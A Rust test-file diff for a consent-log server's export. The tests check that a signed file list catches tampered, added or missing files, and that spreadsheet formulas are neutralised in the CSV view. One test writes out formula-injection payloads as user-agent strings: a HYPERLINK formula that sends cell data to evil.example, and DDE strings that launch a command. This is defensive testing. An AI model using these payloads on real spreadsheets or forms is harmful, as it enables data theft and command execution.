@@ -45,6 +45,71 @@ fn tampered(bundle: &Path, name: &str, edit: impl Fn(Vec<u8>) -> Vec<u8>) -> Pat
     out
 }
 
+/// SHA-256 (hex) of `b`, by coreutils' `sha256sum`: the same tool docs/export.md checks a
+/// bundle with by hand.
+fn sha256_hex(b: &[u8]) -> String {
+    let mut child = std::process::Command::new("sha256sum").stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped()).spawn().expect("sha256sum runs");
+    child.stdin.take().unwrap().write_all(b).unwrap();
+    let out = child.wait_with_output().unwrap();
+    String::from_utf8(out.stdout).unwrap()[..64].to_owned()
+}
+
+/// A copy of the bundle with `files.sig` made again, signed by `key`, over its files as they
+/// are: what an exporter that wrote a wrong file would produce (or anyone holding the key).
+fn resign(bundle: &Path, key: &kelisim_shared::checkpoint::LogKey) -> PathBuf {
+    let all = entries(bundle);
+    let site = String::from_utf8(all.iter().find(|e| e.0 == "files.sig").unwrap().1.clone()).unwrap().lines().next().unwrap().split('/').nth(1).unwrap().to_owned();
+    let mut body = format!("kelisim-files/{site}/{}\n", key.key_id_hex());
+    for (n, b) in all.iter().filter(|e| e.0 != "files.sig") {
+        body.push_str(&format!("{}  {n}\n", sha256_hex(b)));
+    }
+    let note = key.sign_note(&body);
+    let name = bundle.file_stem().unwrap().to_str().unwrap();
+    let out = bundle.with_file_name(format!("{name}-resigned.zip"));
+    std::fs::copy(tampered(bundle, "files.sig", |_| note.clone().into_bytes()), &out).unwrap();
+    out
+}
+
+/// The log's own signing key, from the server's data directory.
+fn log_key(k: &Kelisim) -> kelisim_shared::checkpoint::LogKey {
+    kelisim_shared::checkpoint::LogKey::from_private_text(&std::fs::read_to_string(k.data.path().join("log-signing.key")).unwrap()).unwrap()
+}
+
+/// The same text with one character changed: the first ASCII letter or digit from the middle on.
+fn one_char(mut b: Vec<u8>) -> Vec<u8> {
+    let i = (b.len() / 2..b.len()).chain(0..b.len() / 2).find(|i| b[*i].is_ascii_alphanumeric()).expect("a letter or digit");
+    b[i] = match b[i] {
+        b'9' => b'8',
+        b'z' => b'y',
+        b'Z' => b'Y',
+        c => c + 1,
+    };
+    b
+}
+
+/// A copy of the bundle without one file, or with one more.
+fn without(bundle: &Path, name: &str) -> PathBuf {
+    let out = bundle.with_file_name(format!("without-{}.zip", name.replace('/', "_")));
+    let mut w = zip::ZipWriter::new(std::fs::File::create(&out).unwrap());
+    for (n, b) in entries(bundle).into_iter().filter(|e| e.0 != name) {
+        w.start_file(n.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
+        w.write_all(&b).unwrap();
+    }
+    w.finish().unwrap();
+    out
+}
+
+fn with_extra(bundle: &Path, name: &str, content: &[u8]) -> PathBuf {
+    let out = bundle.with_file_name(format!("with-{}.zip", name.replace('/', "_")));
+    let mut w = zip::ZipWriter::new(std::fs::File::create(&out).unwrap());
+    for (n, b) in entries(bundle).into_iter().chain([(name.to_owned(), content.to_vec())]) {
+        w.start_file(n.as_str(), zip::write::SimpleFileOptions::default()).unwrap();
+        w.write_all(&b).unwrap();
+    }
+    w.finish().unwrap();
+    out
+}
+
 fn lines(b: &[u8]) -> Vec<Vec<u8>> {
     b.split(|c| *c == b'\n').filter(|l| !l.is_empty()).map(<[u8]>::to_vec).collect()
 }
@@ -114,10 +179,15 @@ fn any_change_to_the_bundle_is_caught_and_named() {
     });
     let (ok, out) = verify(&swap);
     assert!(!ok && out.contains("events.jsonl line 3 (seq 4)"), "{out}");
-    // Another key: the checkpoints are not signed by it.
-    let other = kelisim_shared::checkpoint::LogKey::from_seed("kelisim", [9; 32]).unwrap().verifier().to_text();
+    // Another key: the list of files is not signed by it; and with the list signed again by
+    // that key, the checkpoints are not.
+    let other_key = kelisim_shared::checkpoint::LogKey::from_seed("kelisim", [9; 32]).unwrap();
+    let other = other_key.verifier().to_text();
     let key = tampered(&bundle, "log-key.pub", |_| format!("{other}\n").into_bytes());
     let (ok, out) = verify(&key);
+    assert!(!ok && out.contains("files.sig") && out.contains("signature"), "{out}");
+    let resigned = resign(&key, &other_key);
+    let (ok, out) = verify(&resigned);
     assert!(!ok && out.contains("checkpoints/00000001.txt") && out.contains("signature"), "{out}");
     // A changed text version.
     let cfg_name = entries(&bundle).into_iter().find(|e| e.0.starts_with("configs/")).unwrap().0;
@@ -130,7 +200,7 @@ fn any_change_to_the_bundle_is_caught_and_named() {
         b
     });
     let (ok, out) = verify(&leaf);
-    assert!(!ok && out.contains("events.jsonl line 8 (seq 8)"), "{out}");
+    assert!(!ok && out.contains("events.jsonl line 8 (seq 8)") && out.contains("leaves.bin"), "{out}");
     // And the original still verifies.
     assert!(verify(&bundle).0);
 }
@@ -231,4 +301,124 @@ fn ureq_download(url: &str, cookie: &str, csrf: &str, out: &Path) -> String {
     r.body_mut().with_config().limit(1 << 30).reader().read_to_end(&mut body).unwrap();
     std::fs::write(out, body).unwrap();
     ct
+}
+
+#[test]
+fn every_file_of_the_bundle_is_signed_and_checked() {
+    let k = Kelisim::start();
+    seed(&k, 12);
+    let (_d, bundle) = export(&k, &[]);
+    let (ok, out) = verify(&bundle);
+    assert!(ok && out.contains("files as signed"), "{out}");
+    let all = entries(&bundle);
+    let names: Vec<&str> = all.iter().map(|e| e.0.as_str()).collect();
+    assert_eq!(names.last(), Some(&"files.sig"), "the signed list is the last file: {names:?}");
+    // files.sig: a C2SP signed note by the log's key, listing every other file in sha256sum's format.
+    let note = String::from_utf8(all.last().unwrap().1.clone()).unwrap();
+    let key = log_key(&k);
+    let body = key.verifier().verify_note(&note).expect("signed by the log's key");
+    assert_eq!(body.lines().next().unwrap(), format!("kelisim-files/webpulse/{}", key.key_id_hex()));
+    assert!(key.verifier().verify(&note).is_err(), "a file list is not a checkpoint");
+    let listed: Vec<(String, String)> = body.lines().skip(1).map(|l| l.split_once("  ").map(|(h, n)| (h.to_owned(), n.to_owned())).unwrap()).collect();
+    assert_eq!(listed.iter().map(|l| l.1.as_str()).collect::<Vec<_>>(), names[..names.len() - 1]);
+    for ((h, n), (_, b)) in listed.iter().zip(&all) {
+        assert_eq!(*h, sha256_hex(b), "{n}");
+    }
+    // One character changed in any file: refused, and the file named.
+    for (name, _) in all.iter().filter(|e| e.0 != "files.sig").chain(all.iter().filter(|e| e.0 == "files.sig")) {
+        let changed = tampered(&bundle, name, one_char);
+        assert_ne!(entries(&changed).iter().find(|e| e.0 == *name).unwrap().1, all.iter().find(|e| e.0 == *name).unwrap().1);
+        let (ok, out) = verify(&changed);
+        assert!(!ok, "{name} changed and the bundle still verifies: {out}");
+        assert!(out.contains("NOT intact") && out.contains(name.as_str()), "{name} changed: {out}");
+    }
+    // A file added, a file removed.
+    let (ok, out) = verify(&with_extra(&bundle, "notes.txt", b"nothing to see\n"));
+    assert!(!ok && out.contains("notes.txt") && out.contains("added"), "{out}");
+    let (ok, out) = verify(&with_extra(&bundle, "configs/0000.json", b"{}"));
+    assert!(!ok && out.contains("configs/0000.json") && out.contains("added"), "{out}");
+    for name in ["operator.json", "events.csv", "README.md", "checkpoints/00000001.txt"] {
+        let (ok, out) = verify(&without(&bundle, name));
+        assert!(!ok && out.contains(name) && out.contains("missing"), "{name} removed: {out}");
+    }
+    let (ok, out) = verify(&without(&bundle, "files.sig"));
+    assert!(!ok && out.contains("files.sig") && out.contains("missing"), "{out}");
+    assert!(verify(&bundle).0);
+}
+
+#[test]
+fn a_decision_changed_in_the_spreadsheet_or_the_dpv_file_is_named() {
+    let k = Kelisim::start();
+    let (_, sent) = seed(&k, 8);
+    assert_eq!(sent[4].1, "accept_all");
+    let (_d, bundle) = export(&k, &[]);
+    // seq 5 is accept_all: make it reject_all in each of the two views.
+    let csv = tampered(&bundle, "events.csv", |b| {
+        let mut l = lines(&b);
+        let at = l[5].windows(10).position(|w| w == b"accept_all").unwrap();
+        l[5][at..at + 10].copy_from_slice(b"reject_all");
+        join(&l)
+    });
+    let (ok, out) = verify(&csv);
+    assert!(!ok && out.contains("events.csv line 6 (seq 5)") && out.contains("`action` is `reject_all`") && out.contains("accept_all"), "{out}");
+    let dpv = tampered(&bundle, "events.dpv.jsonld", |b| {
+        let s = String::from_utf8(b).unwrap();
+        let rec = s.find("\"dct:identifier\":\"webpulse:5\"").unwrap();
+        let at = rec + s[rec..].find("\"kelisim:action\":\"accept_all\"").unwrap();
+        format!("{}\"kelisim:action\":\"reject_all\"{}", &s[..at], &s[at + "\"kelisim:action\":\"accept_all\"".len()..]).into_bytes()
+    });
+    let (ok, out) = verify(&dpv);
+    assert!(!ok && out.contains("events.dpv.jsonld record of seq 5") && out.contains("reject_all"), "{out}");
+    // Even with the list of files signed again by the log's own key (an exporter that wrote a
+    // wrong view), the views are derived from the records again and the difference is named.
+    let key = log_key(&k);
+    for (bad, name, place) in [(&csv, "events.csv", "events.csv line 6 (seq 5)"), (&dpv, "events.dpv.jsonld", "events.dpv.jsonld record of seq 5")] {
+        let (ok, out) = verify(&resign(bad, &key));
+        assert!(!ok && out.contains(place) && out.contains("every file is as files.sig lists it"), "{name}: {out}");
+    }
+    let op = tampered(&bundle, "operator.json", |b| String::from_utf8(b).unwrap().replacen("\"KZ\"", "\"RU\"", 1).into_bytes());
+    let (ok, out) = verify(&resign(&op, &key));
+    assert!(!ok && out.contains("operator.json") && out.contains("not the operator of configs/"), "{out}");
+    let readme = tampered(&bundle, "README.md", |b| String::from_utf8(b).unwrap().replacen("records / записей / жазбалар: 8", "records / записей / жазбалар: 9", 1).into_bytes());
+    let (ok, out) = verify(&resign(&readme, &key));
+    assert!(!ok && out.contains("README.md"), "{out}");
+    // The bundle signed again as it was still verifies: the check is of content, not of bytes of a signature.
+    let (ok, out) = verify(&resign(&bundle, &key));
+    assert!(ok, "{out}");
+}
+
+#[test]
+fn formulas_in_visitor_fields_are_neutralised_in_the_csv() {
+    let k = Kelisim::start();
+    let cfg = get(&k.url("/api/v1/sites/webpulse/config"), &[]).json();
+    let required = cfg["categories"].as_array().unwrap().iter().find(|c| c["required"] == serde_json::json!(true)).unwrap()["id"].as_str().unwrap().to_owned();
+    let agents = ["=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"];
+    for ua in agents {
+        let body = serde_json::json!({"consent_id": kelisim_tests::uuid(), "event_id": kelisim_tests::uuid(), "config_version": cfg["version"], "action": "reject_all", "granted": [required], "language": "ru", "gpc": false, "page": format!("{ua}")});
+        let r = kelisim_tests::post(
+            &k.url("/api/v1/sites/webpulse/consents"),
+            &[("origin", "https://webpulse.kz"), ("content-type", "application/json"), ("user-agent", ua)],
+            &body.to_string(),
+        );
+        assert_eq!(r.status, 201, "{}", r.body);
+    }
+    let (_d, bundle) = export(&k, &[]);
+    let (ok, out) = verify(&bundle);
+    assert!(ok, "{out}");
+    let all = entries(&bundle);
+    let jsonl = &all.iter().find(|e| e.0 == "events.jsonl").unwrap().1;
+    let logged: Vec<String> = lines(jsonl).iter().map(|l| serde_json::from_slice::<serde_json::Value>(l).unwrap()["user_agent"].as_str().unwrap().to_owned()).collect();
+    assert_eq!(logged, agents, "the log keeps what the browser sent");
+    let csv_bytes = &all.iter().find(|e| e.0 == "events.csv").unwrap().1;
+    let mut r = csv::Reader::from_reader(&csv_bytes[3..]);
+    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
+    let ua_col = head.iter().position(|h| h == "user_agent").unwrap();
+    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 4);
+    for (row, ua) in rows.iter().zip(agents) {
+        assert_eq!(&row[ua_col], format!("'{ua}"), "a leading ' and the rest kept");
+        for cell in row.iter() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell a spreadsheet would run: {cell:?}");
+        }
+    }
 }
